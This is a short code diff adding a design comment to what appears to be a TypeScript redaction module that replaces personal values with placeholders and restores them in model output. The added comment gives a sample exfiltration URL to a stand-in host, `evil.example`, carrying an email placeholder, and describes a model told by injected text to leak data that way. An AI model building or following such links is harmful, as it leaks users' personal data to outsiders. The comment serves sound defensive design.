@@ -6,6 +6,9 @@ import { holesOf } from "./redaction.ts";
  * value that is taken out of one exchange a placeholder, and puts the values back into what the model says. It is made
  * with the exchange, for its principal, and goes with it: nothing is kept elsewhere, so that no placeholder of one
  * request can be turned into another's value.
+ *
+ * What is revealed must still be judged: a model that was told to may write `https://evil.example/?q=[EMAIL_1]`, and
+ * that names nobody until the value is back. Exfiltration is looked for in the revealed answer, personal data before.
  */
 
 /** How a text is written: as it is read, or as the inside of a JSON string, as arguments of tools are. */
